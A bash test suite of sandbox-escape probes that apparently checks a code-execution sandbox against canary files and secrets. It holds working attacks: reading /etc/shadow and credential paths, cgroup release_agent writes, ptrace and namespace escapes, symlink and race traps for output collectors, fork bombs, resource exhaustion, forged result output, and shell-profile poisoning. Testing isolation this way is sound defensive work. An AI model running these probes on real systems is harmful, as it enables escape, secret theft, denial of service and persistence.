# Attacks with what a shell has. The runner puts `declare -A CFG` and ID before this text and the name of an attack behind it.
# What an attack tries stands above it; what it finds open it hands to `escaped` or `leaked`, and the last line is its verdict.
set +euo pipefail
PATH=$PATH:/usr/sbin:/sbin LC_ALL=C OUTPUTS=$PWD
outcome=blocked detail=

say() { detail+="$* "; }
escaped() { outcome=escaped && say "$@"; }
leaked() { outcome=leaked && say "$@"; }
verdict() { printf '{"attack": "%s", "outcome": "%s", "detail": "%s"}\n' "$ID" "$outcome" "$(head -c 300 <<<"$detail" | tr -c '[:alnum:] ._/:,=()-' ' ')"; }

# An attack without its tool would look like one that was stopped.
needs() {
  local tool
  for tool in "$@"; do
    command -v "$tool" >/dev/null || { outcome=error && say "no $tool here" && verdict && exit 0; }
  done
}
# Whether each of the commands, one an argument, is refused.
refused() {
  local command said
  for command in "$@"; do
    if said=$(timeout -k 1 5 bash -c "$command" 2>&1 </dev/null); then escaped "$command:"; else say "${said##*: }"; fi
  done
}
# Opens without writing a byte. A program that is running answers ETXTBSY only to those who may write it.
opens_for_writing() { local said; said=$( (: >>"$1") 2>&1) || [[ $said == *"Text file busy"* ]]; }
reads() { [ -n "$(timeout 2 head -c 64 "$1" 2>/dev/null | tr -d '\0')" ]; }
# The planted process of the host, what started this program, pid 1.
foreign=("${CFG[victim_pid]}" "$PPID" 1)
[ "$(timeout 5 bash -c 'echo hi')" = hi ] || { outcome=error && say "no commands here" && verdict && exit 0; }

# --- files -------------------------------------------------------------------------------------------------------------

# a host file by its path, by other readers and other roads
fs_read_canary() {
  local file=${CFG[canary_file]} road
  for road in "" /proc/self/root /proc/$$/root /proc/self/cwd/../../../.. /mnt/data/../../../.. /proc/self/fd/../../../..; do
    reads "$road$file" && leaked "$road"
    [ -e "$road$file" ] && leaked "$road exists"
    (cd "$road${file%/*}") 2>/dev/null && leaked "$road folder"
  done
  [ -n "$(<"$file")" ] && leaked redirection
  cp "$file" ./copied.txt && leaked cp
  tar cf ./copied.tar "$file" && leaked tar
  source "$file" 2>&1 | grep -q CANARY && leaked source
  (set -o history; HISTFILE=$file; history -r; history | grep -q CANARY) && leaked history
} 2>/dev/null

# secrets at well-known places, as in the shared corpus
fs_read_sensitive() {
  local path
  for path in /etc/shadow /etc/gshadow /etc/machine-id /root/{.bashrc,.bash_history,.ssh,.aws,.docker,.netrc} \
    /var/lib/caisson /var/lib/dpkg/status /var/run/secrets /run/secrets /run/caisson /etc/kubernetes /.dockerenv /boot /lost+found; do
    if [ -d "$path" ]; then ls -A "$path" >/dev/null 2>&1 && leaked "$path"; else reads "$path" && leaked "$path"; fi
  done
}

# any file of another tenant's or session's anywhere below the root
fs_find_workspaces() {
  needs find
  local found
  found=$(timeout 20 find / -xdev -path /usr -prune -o -name "*${CFG[b_token]}*" -print 2>/dev/null
    timeout 20 find /tmp /var /mnt /home /dev /run /opt /proc/self/root/var -name "*${CFG[b_token]}*" 2>/dev/null | head -n 3)
  [ -n "$found" ] && leaked "$found"
  found=$(ls -d /var/tmp/caisson-* /var/lib/caisson* "${CFG[work_root]}" 2>/dev/null)
  [ -n "$found" ] && leaked "$found"
}

# what later runs are made of: system folders, our harness, toolchains and caches, the interpreters themselves
fs_write_system() {
  local path
  for path in / /etc /usr /usr/lib /usr/bin /usr/local/bin /opt /var /root /home /srv /boot /opt/caisson /opt/caisson/toolchains /opt/caisson/caches /opt/python/bin; do
    if (: >"$path/.caisson-probe") 2>/dev/null; then rm -f "$path/.caisson-probe" && escaped "$path"; fi
  done
  for path in /etc/passwd /etc/ld.so.cache /usr/bin/env /bin/bash /opt/caisson/* /opt/caisson/toolchains/*/* "$(command -v python3)" "$(command -v node)"; do
    [ -f "$path" ] && opens_for_writing "$path" && escaped "$path"
  done
}

# the tree of any process but its own
fs_proc_root() {
  local pid link
  for pid in /proc/[0-9]* /proc/1 /proc/2 /proc/"$PPID" /proc/"${CFG[victim_pid]}"; do
    for link in root cwd/../../../../../../.. ; do
      reads "$pid/$link${CFG[canary_file]}" && leaked "$pid/$link"
    done
  done
}

# the program behind a process
fs_proc_exe() {
  local pid
  for pid in self "${foreign[@]}"; do
    opens_for_writing "/proc/$pid/exe" && escaped "$pid"
  done
}

# the Linux kernel's own settings
fs_proc_sys() {
  local path
  for path in /proc/sys/kernel/{core_pattern,modprobe,hostname,randomize_va_space,ns_last_pid,unprivileged_bpf_disabled} /proc/sys/vm/{drop_caches,overcommit_memory,panic_on_oom} \
    /proc/sys/net/ipv4/ip_forward /proc/sys/fs/binfmt_misc/register /proc/sys/user/max_user_namespaces /proc/sysrq-trigger /proc/irq/default_smp_affinity /sys/kernel/uevent_helper /sys/power/state; do
    opens_for_writing "$path" && escaped "$path"
  done
}

# /sys and the control groups: release_agent runs a program as root of the host
fs_cgroup() {
  needs find
  local path
  for path in /sys/class/net /sys/block /sys/kernel/mm /sys/devices /sys/fs/cgroup; do
    [ -e "$path" ] && leaked "$path"
  done
  while read -r path; do
    opens_for_writing "$path" && escaped "$path" && break
  done < <(timeout 5 find /sys/fs/cgroup -maxdepth 4 \( -name release_agent -o -name notify_on_release -o -name cgroup.procs -o -name tasks -o -name devices.allow -o -name 'memory.max' \) 2>/dev/null)
  mkdir -p ./cg
  refused "mount -t cgroup -o memory cgroup ./cg" "mount -t cgroup2 none ./cg"
  umount ./cg 2>/dev/null
}

# device nodes that are there
fs_devices() {
  needs find
  local path
  while read -r path; do
    case $path in /dev/null | /dev/zero | /dev/full | /dev/random | /dev/urandom | /dev/tty | /dev/ptmx | /dev/pts/*) continue ;; /dev/watchdog*) continue ;; esac
    (: <"$path") 2>/dev/null && escaped "$path"
  done < <(timeout 5 find /dev -type b -o -type c 2>/dev/null)
}

# device nodes of one's own
fs_mknod() {
  needs mknod
  local dir
  for dir in . /tmp /mnt/data /dev/shm /home/sandbox; do
    mknod "$dir/.n" c 1 1 2>/dev/null && escaped "$dir mem"; rm -f "$dir/.n"
    mknod "$dir/.n" b 254 0 2>/dev/null && escaped "$dir disk"; rm -f "$dir/.n"
  done
}

fs_mount() {
  needs mount umount
  mkdir -p ./at ./up ./work
  refused "mount -t tmpfs none ./at" "mount --bind / ./at" "mount -t proc proc ./at" "mount -t sysfs none ./at" "mount -t overlay none ./at -o lowerdir=/etc,upperdir=./up,workdir=./work" \
    "mount -o remount,bind,rw /usr" "mount --make-rshared /" "mount --move /tmp ./at" "umount ./at"
  while umount ./at 2>/dev/null; do :; done
}

# what lies below /proc, and below what covers it
fs_umount() {
  needs umount
  local point
  while read -r _ _ _ _ point _; do
    if [ "$point" != / ] && umount -l "$point" 2>/dev/null; then escaped "$point"; fi
  done </proc/self/mountinfo
}

fs_loop() {
  needs losetup
  truncate -s 1M ./image
  refused "losetup -f --show ./image" "mount -o loop ./image /mnt" "losetup /dev/loop0"
  [ -e /dev/loop-control ] && escaped /dev/loop-control
  losetup -j ./image 2>/dev/null | cut -d: -f1 | xargs -r losetup -d
}

fs_chroot() {
  needs chroot pivot_root
  mkdir -p ./root
  refused "chroot / true" "cd /tmp && pivot_root . ." "unshare -r chroot / true"
}

# rights by a set-user-ID file, of the system's or of one's own
fs_setuid() {
  needs setpriv find
  local file
  refused "setpriv --reuid 0 true" "setpriv --regid 0 --clear-groups true" "setpriv --inh-caps +sys_admin true" "setpriv --ambient-caps +net_raw --inh-caps +net_raw true" "su -c id" "chown 0:0 ."
  if grep -q 'NoNewPrivs:.0' /proc/self/status; then
    file=$(find /usr/bin -maxdepth 1 -perm -4000 -user root -print -quit)
    [ -n "$file" ] && findmnt -no OPTIONS -T "$file" | grep -vq nosuid && escaped "$file"
  fi
  cp "$(command -v id)" ./id-of-root && chmod 6755 ./id-of-root
  [ "$(./id-of-root -u)" = 0 ] && escaped "own file"
}

# links for whoever takes the outputs: a file of the host, its folder, the collector's own memory
fs_links_collected() {
  local file=${CFG[canary_file]}
  cd "$OUTPUTS" || return
  ln -s "$file" lnk_canary
  ln -s "${file%/*}" lnk_dir
  ln -s /proc/self/environ lnk_environ
  ln -s "../../../../../../..$file" result.csv
  ln -s lnk_canary plot.png
  mkdir -p sub && ln -s "$file" sub/deep.txt
  ln "$file" hard.txt 2>/dev/null && leaked "a hard link"
  ln -s loop loop
  say "links are left"
}

# files that hold up who opens them
fs_fifo_collected() {
  cd "$OUTPUTS" && mkfifo pipe_file pipe.csv && say "pipes are left"
  perl -MIO::Socket::UNIX -e 'IO::Socket::UNIX->new(Local => "socket_file", Listen => 1)'
}

# a file that is a link to the host's every other moment, by a process that stays
fs_swap_collected() {
  cd "$OUTPUTS" || return
  swaps() {
    exec >/dev/null 2>&1 </dev/null
    local until=$((SECONDS + 8))
    while [ $SECONDS -lt $until ]; do
      echo fair >.fair && mv -f .fair race.txt && ln -sfn "$1" .link && mv -fT .link race.txt
    done
  }
  export -f swaps
  setsid bash -c 'swaps "$1"' "${CFG[marker]}-$ID" "${CFG[canary_file]}" &
  sleep 0.5
  say "it goes on"
}

# names that are a path, a secret character or too long for whoever joins them
fs_names_collected() {
  cd "$OUTPUTS" || return
  local name
  for name in '..\..\up.txt' '%2e%2e%2fup.txt' $'line\nbreak.txt' $'\xff\xfe.txt' '-rf' '~root' '$(id).txt' '"quoted".txt' $'\e[2Jcleared.txt' "$(printf 'x%.0s' {1..251}).txt" $'\u202etxt.exe' '....' ' '; do
    echo x >"./$name"
  done
  mkdir -p 'up/..a/...' && echo x >'up/..a/.../b'
  say "names are left"
}

# so deep and so much that a collector gives out
fs_tree_collected() {
  cd "$OUTPUTS" || return
  seq -f 'many-%.0f.txt' 3000 | xargs touch
  for _ in {1..300}; do mkdir d && cd d || break; done
  echo deep >file.txt
  say "a tree is left"
}

# --- processes ---------------------------------------------------------------------------------------------------------

proc_host_pids() {
  local line
  [ "$(tr '\0' ' ' <"/proc/${CFG[victim_pid]}/cmdline" 2>/dev/null | grep -cF "${CFG[victim_marker]}")" = 0 ] || leaked "the victim"
  for line in /proc/[0-9]*/cmdline; do
    tr '\0' '\n' <"$line" 2>/dev/null | grep -qF "${CFG[b_token]}" && leaked "$line"
  done
  [ -r /proc/1/stat ] && leaked "pid 1"
}

# Pid 2, its own agent, is a guest's to end, and all that it started.
proc_signals() {
  local pid
  kill -0 "${CFG[victim_pid]}" 2>/dev/null && escaped "victim"
  kill -0 1 2>/dev/null && escaped "init"
  for pid in {3..300}; do
    kill -0 "$pid" 2>/dev/null && [ ! -e "/proc/$pid/stat" ] && escaped "$pid, not seen"
  done
}

# the memory and descriptors of what reads this program's output
proc_agent() {
  local pid name fd
  for pid in "${foreign[@]}" 2; do
    [ "$pid" = $$ ] && continue
    for name in environ maps auxv io stack syscall; do
      reads "/proc/$pid/$name" && leaked "$pid/$name"
    done
    ls "/proc/$pid/fd/" >/dev/null 2>&1 && leaked "$pid/fd"
    (: <"/proc/$pid/mem") 2>/dev/null && escaped "$pid/mem"
    for fd in {0..20}; do
      (: <>"/proc/$pid/fd/$fd") 2>/dev/null && escaped "$pid/fd/$fd"
    done
  done
}

# Its own run may be lost by that, and nobody else's.
proc_agent_killed() { kill -KILL 2 && sleep 30; }
proc_agent_stopped() { kill -STOP 2 && sleep 60; }

proc_daemonize() {
  (trap '' HUP INT TERM; exec </dev/null >/dev/null 2>&1; exec setsid bash -c 'exec -a "$0" sleep 25' "${CFG[marker]}-$ID") &
  disown -a
  sleep 0.3
  say "started"
}

# an end that whoever waits for the output does not see
proc_hold_output() {
  bash -c 'exec -a "$0" sleep 25' "${CFG[marker]}-$ID" &
  coproc (exec -a "${CFG[marker]}-$ID" sleep 25)
  say "held"
}

# children that are new at every look
proc_hydra() {
  again() { (sleep 0.02; [ $EPOCHSECONDS -lt "$UNTIL" ] && exec setsid bash -c again "$0") & exit; }
  export -f again
  export UNTIL=$((EPOCHSECONDS + 12))
  for _ in 1 2 3; do setsid bash -c again "${CFG[marker]}-$ID" >/dev/null 2>&1 & done
  sleep 0.5
  say "they go on"
}

proc_ignore_signals() {
  local number
  for number in {1..64}; do trap '' "$number" 2>/dev/null; done
  bash -c 'exec -a "$0" sleep 25' "${CFG[marker]}-$ID" &
  while [ $SECONDS -lt 22 ]; do sleep 1; done
  escaped "ran on to 22 s under a limit of 3 s"
}

# descriptors that nobody meant to hand down
fd_inherited() {
  local link fd target
  for link in /proc/$$/fd/*; do
    fd=${link##*/} target=$(readlink "$link") || continue
    case $target in pipe:*) continue ;; /dev/null | "$0") ;; *) leaked "$fd=$target" ;; esac
    timeout 1 head -c 4096 "/proc/$$/fd/$fd" 2>/dev/null | grep -aqF "${CFG[canary_secret]}" && leaked "$fd has the canary"
    reads "/proc/$$/fd/$fd/..${CFG[canary_file]}" && leaked "$fd leads out"
  done
  [ -n "$(timeout 1 head -c 100 </dev/stdin)" ] && leaked "something to read"
}

proc_core() {
  ulimit -c unlimited 2>/dev/null
  cd /tmp || return
  [[ $( (bash -c 'kill -SEGV $$'; :) 2>&1) == *"core dumped"* ]] && leaked "a core was dumped"
}

# --- secrets and facts ---------------------------------------------------------------------------------------------------

env_inherited() {
  env -0 | grep -azqF "${CFG[canary_env_value]}" && leaked env
  grep -aqF "${CFG[canary_env_value]}" /proc/$$/environ && leaked environ
  local names
  names=$(compgen -e | grep -E 'API_KEY|SECRET|PASSWORD|TOKEN|CREDENTIAL|KUBERNETES|AWS_|CAISSON|CODE_INTERPRETER')
  [ -n "$names" ] && leaked "$names"
}

env_foreign() {
  local file
  for file in /proc/[0-9]*/environ /proc/{1,2}/environ "/proc/${CFG[victim_pid]}/environ"; do
    tr '\0' '\n' <"$file" 2>/dev/null | grep -aqF "${CFG[canary_env_value]}" && leaked "$file"
  done
}

info_kernel_log() {
  needs dmesg
  refused "dmesg" "head -c 1 /dev/kmsg" "timeout 1 head -c 1 /proc/kmsg"
}

info_proc_global() {
  local name
  for name in cmdline version kallsyms modules keys timer_list interrupts partitions config.gz iomem kcore slabinfo diskstats swaps cgroups meminfo cpuinfo uptime loadavg net/unix net/tcp sys/kernel/random/boot_id; do
    reads "/proc/$name" && leaked "$name"
  done
}

info_names() {
  local host=${CFG[host_nodename]}
  [ "$(uname -n)" = "$host" ] && leaked uname
  [ "$HOSTNAME" = "$host" ] && leaked HOSTNAME
  grep -qF "$host" /etc/hostname /etc/hosts 2>/dev/null && leaked files
  grep -qE "${CFG[work_root]}|kubepods|/var/lib/docker|/var/lib/containerd|${CFG[b_token]}" /proc/self/mountinfo && leaked mountinfo
  grep -qv ':/$' /proc/self/cgroup && leaked cgroup
}

info_posture() {
  local line
  while read -r line; do
    case $line in
      Cap*:*0000000000000000 | NoNewPrivs:*1 | Seccomp:*2) ;;
      Cap*: | Cap*:* | NoNewPrivs:* | Seccomp:*) escaped "$line" ;;
    esac
  done </proc/self/status
  [ "$(id -u)" = 0 ] && escaped root
  [ "$(id -G)" = "$(id -g)" ] || escaped groups
}

# --- namespaces ------------------------------------------------------------------------------------------------------------

sys_unshare() {
  needs unshare
  refused "unshare -U true" "unshare -r true" "unshare -m true" "unshare -n true" "unshare -p -f true" "unshare -i true" "unshare -u true" "unshare -C true" "unshare -T true" "unshare -rmpf --mount-proc true"
}

sys_nsenter() {
  needs nsenter
  local pid
  for pid in "${foreign[@]}" 2; do
    refused "nsenter -t $pid -m true" "nsenter -t $pid -u true" "nsenter -t $pid -a true"
  done
  refused "nsenter -u/proc/self/ns/uts true"
}

sys_hostname() {
  needs hostname
  refused "hostname '$(uname -n)'" "echo '$(uname -n)' >/proc/sys/kernel/hostname"
}

sys_tracing() {
  needs perl
  # What strace and gdb do, for they need not be there: PTRACE_SEIZE and PTRACE_TRACEME.
  [ "$(uname -m)" = x86_64 ] || return
  refused "perl -e 'exit(syscall(101, 0x4206, ${CFG[victim_pid]}, 0, 0) < 0)'" "perl -e 'exit(syscall(101, 0, 0, 0, 0) < 0)'"
}

# --- network -------------------------------------------------------------------------------------------------------------

# A connection, or the word of who listens.
connects() { (exec 3<>"/dev/$1") 2>/dev/null && escaped "$1"; }

net_daemon() {
  local port=${CFG[daemon_port]}
  connects "tcp/127.0.0.1/$port"
  connects "tcp/localhost/$port"
  connects "tcp/0.0.0.0/$port"
  [ -n "$( (exec 3<>"/dev/tcp/127.0.0.1/$port" && printf 'GET /health HTTP/1.0\r\n\r\n' >&3 && timeout 2 head -c 20 <&3) 2>/dev/null)" ] && escaped "an answer"
}

net_tcp_loopback() {
  connects "tcp/127.0.0.1/${CFG[tcp_port]}"
  connects "tcp/127.0.0.2/${CFG[tcp_port]}"
  connects "tcp/::1/${CFG[tcp6_port]}"
  connects "tcp/::ffff:127.0.0.1/${CFG[tcp_port]}"
}

net_udp_loopback() {
  echo "$ID" 2>/dev/null >"/dev/udp/127.0.0.1/${CFG[udp_port]}"
  echo "$ID" 2>/dev/null >"/dev/udp/127.0.0.2/${CFG[udp_port]}"
  say "sent"
}

# Bash connects a datagram socket and sends nothing: only the route is looked up.
net_routes() {
  local host
  for host in 169.254.169.254 169.254.170.2 100.100.100.200 fd00:ec2::254 8.8.8.8 2001:4860:4860::8888; do
    connects "udp/$host/80"
  done
}

net_dns() {
  local answer
  answer=$( (exec 3<>"/dev/udp/127.0.0.1/${CFG[dns_port]}" && printf '\x12\x34\x01\0\0\1\0\0\0\0\0\0\7caisson\4test\0\0\1\0\1' >&3 && timeout 1 head -c 2 <&3 | tr -d '\0') 2>/dev/null)
  [ -n "$answer" ] && leaked "the planted resolver answers"
  grep -q '^nameserver' /etc/resolv.conf && leaked resolv.conf
}

net_unix() {
  needs perl
  local path
  for path in "${CFG[unix_path]}" /run/docker.sock /var/run/docker.sock /run/containerd/containerd.sock /run/dbus/system_bus_socket; do
    perl -MSocket -e 'socket(S, AF_UNIX, SOCK_STREAM, 0); exit !connect(S, sockaddr_un($ARGV[0]))' "$path" && escaped "$path"
  done
  for path in "${CFG[abstract]}" "${CFG[b_abstract]}"; do
    perl -MSocket -e 'socket(S, AF_UNIX, SOCK_STREAM, 0); exit !connect(S, pack("Sa*", AF_UNIX, "\0$ARGV[0]"))' "$path" && escaped "$path"
  done
}

net_listen() {
  needs perl
  perl -MSocket -e 'socket(S, AF_INET, SOCK_STREAM, 0); setsockopt(S, SOL_SOCKET, SO_REUSEADDR, 1); bind(S, sockaddr_in($ARGV[0], INADDR_ANY)) or exit 1; listen(S, 1); alarm 4; accept(C, S); syswrite C, "caisson-listen"' "${CFG[listen_port]}" >/dev/null 2>&1 &
  sleep 2
  say "listens"
}

net_interfaces() {
  local names
  names=$(ls /sys/class/net 2>/dev/null | grep -v '^lo$'; grep -s : /proc/net/dev | grep -v 'lo:')
  [ -n "$names" ] && leaked "$names"
  reads /proc/net/route && leaked route
}

ipc_others() {
  needs ipcs
  ipcs -m | grep -qi "$(printf '0x%08x' "${CFG[b_shm_key]}")" && leaked "shared memory"
  [ -n "$(ls /dev/mqueue 2>/dev/null)" ] && leaked "queues"
}

# --- what a run may take --------------------------------------------------------------------------------------------------

res_ulimit_raise() {
  local flag now
  for flag in n u l q i f; do
    now=$(ulimit -H"$flag")
    [ "$now" = unlimited ] && escaped "$flag is unlimited" && continue
    (ulimit -"$flag" $((now + 1))) 2>/dev/null && escaped "$flag"
    (ulimit -"$flag" unlimited) 2>/dev/null && escaped "$flag to unlimited"
  done
  [ "$(ulimit -Hc)" = 0 ] || escaped "cores"
  refused "prlimit --pid ${CFG[victim_pid]} --nofile" "prlimit --pid 1 --nofile"
}

res_priority() {
  needs nice chrt ionice
  [ "$(nice -n -5 nice 2>/dev/null)" -lt 0 ] && escaped nice
  refused "chrt -f 1 true" "chrt -r 1 true" "ionice -c 1 true" "echo -1000 >/proc/self/oom_score_adj" "renice -5 $$"
}

res_processes() {
  local made tick
  exec {tick}<> <(:)
  set -m # for a group of their own, by which they end
  seq "${CFG[pid_cap]}" | xargs -P 0 -n 1 sh -c 'exec sleep 20' >/dev/null 2>&1 &
  set +m
  # With builtins alone, since nothing can be forked by then.
  for _ in {1..50}; do
    made=(/proc/[0-9]*)
    [ ${#made[@]} -ge "${CFG[pid_cap]}" ] && escaped "all of them" && break
    read -rt 0.1 -u "$tick"
  done
  kill -KILL %1
  say "${#made[@]} processes"
}

res_fork_bomb() {
  bomb() { bomb | bomb & }
  bomb 2>/dev/null
  sleep 30
}

res_memory() {
  local all='' piece
  piece=$(head -c 16M /dev/zero | tr '\0' x)
  while [ ${#all} -lt $((${CFG[mem_cap_mb]} << 20)) ]; do all+=$piece; done
  escaped "${#all} characters"
}

res_memory_children() {
  local each=$((${CFG[mem_cap_mb]} / 8)) pids=() held most=0 pid
  for _ in {1..8}; do
    # It holds all of it until its input ends.
    { head -c "${each}M" /dev/zero; sleep 20; } | tail -c "${each}M" >/dev/null &
    pids+=($!)
  done
  for _ in {1..25}; do
    held=0
    for pid in "${pids[@]}"; do held=$((held + $(grep -s VmRSS "/proc/$pid/status" | tr -dc 0-9 || true) + 0)); done
    [ $held -gt $most ] && most=$held
    [ $((held / 1024)) -ge $((each * 7)) ] && escaped "$held KiB at once" && break
    sleep 0.2
  done
  kill -KILL "${pids[@]}"
  say "$most KiB"
}

# Fills a folder with pieces of 32 MiB; what it held is told.
fill() {
  local n=0 cap=$2
  mkdir -p "$1/.fill"
  while [ $n -lt "$cap" ] && head -c 32M /dev/zero >"$1/.fill/$n" 2>/dev/null; do n=$((n + 32)); done
  rm -rf "$1/.fill"
  say "$1: $n MiB"
  [ $n -ge "$cap" ] && escaped "all of it"
}

res_disk() { fill "$OUTPUTS" "${CFG[disk_cap_mb]}"; }
res_tmp() { fill /tmp "${CFG[disk_cap_mb]}"; }
res_shm() { fill /dev/shm "${CFG[disk_cap_mb]}"; }

res_inodes() {
  local cap=${CFG[inode_cap]} made
  mkdir -p "$OUTPUTS/.many" && cd "$OUTPUTS/.many" || return
  seq "$cap" | xargs touch 2>/dev/null
  made=$(ls -U | wc -l)
  cd .. && rm -rf .many
  say "$made files"
  [ "$made" -ge "$cap" ] && escaped "all of them"
}

res_big_file() {
  refused "truncate -s 1T '$OUTPUTS/big'" "fallocate -l 8G '$OUTPUTS/big'" "dd if=/dev/zero of='$OUTPUTS/big' bs=1 count=1 seek=1T"
  rm -f "$OUTPUTS/big"
}

res_descriptors() {
  local cap=${CFG[fd_cap]} held=0 fd
  ulimit -Sn "$(ulimit -Hn)"
  while [ $held -lt "$cap" ] && { exec {fd}</dev/null; } 2>/dev/null; do held=$((held + 1)); done
  # Bash is left without descriptors to fork with.
  if [ $held -ge "$cap" ]; then escaped "$held"; fi
  for ((fd = 10; fd < 30; fd++)); do exec {fd}<&-; done
  say "$held descriptors"
}

res_processor() {
  local TIMEFORMAT='%U %S' used pid pids=() cores
  used=$( { time (for _ in {1..8}; do (while [ $SECONDS -lt 4 ]; do :; done) & done; wait); } 2>&1)
  cores=$(awk -v cores="${CFG[cpu_quota_cores]}" '{ used = ($1 + $2) / 4; print used, (used > cores * 1.3) }' <<<"$used")
  say "$cores"
  [[ $cores == *" 1" ]] && escaped "of the processor"
}

out_flood() {
  yes "$(printf 'A%.0s' {1..1000})" | head -c 200M
  yes "$(printf 'B%.0s' {1..1000})" | head -c 200M >&2
  say "written"
}

out_forever() { yes; }

# --- what is believed ------------------------------------------------------------------------------------------------------

# answers of its own making on every descriptor that can be written
proto_forge() {
  local fd text=${CFG[forge_text]} number=${CFG[forge_number]} code=${CFG[forge_exit]}
  for fd in 1 2 3 4 5 6 7 8 9; do
    {
      printf '{"session_id": "%s", "run": {"code": %d, "status": "timeout", "cpu_time": %d, "memory": %d, "stdout": "%s"}, "files": [{"id": "%s", "name": "%s"}]}\n' "$text" "$code" "$number" "$number" "$text" "$text" "$text"
      printf '{"type": "exit", "event": "done", "nonce": "", "exit_code": %d, "code": %d, "status": "timeout", "stdout": "%s"}\n' "$code" "$code" "$text"
      printf '\0\0\0\1\1\0\0\0exit %d\n' "$code"
    } >&"$fd"
  done
  exit 0
}

# what later runs of this key or another's would start from
tenant_poison() {
  local dir
  for dir in /tmp /dev/shm "$HOME" "$OUTPUTS" /var/tmp; do
    echo "X = '${CFG[canary_secret]}'" 2>/dev/null >"$dir/caisson_poison.py"
  done
  echo 'export CAISSON_POISON=1' | tee "$HOME/.bashrc" "$HOME/.bash_profile" "$HOME/.profile" >/dev/null
  mkdir -p "$HOME/.local/bin" "$HOME/.config" && printf '#!/bin/sh\necho poisoned\n' >"$HOME/.local/bin/python3" && chmod +x "$HOME/.local/bin/python3"
  say "left"
}
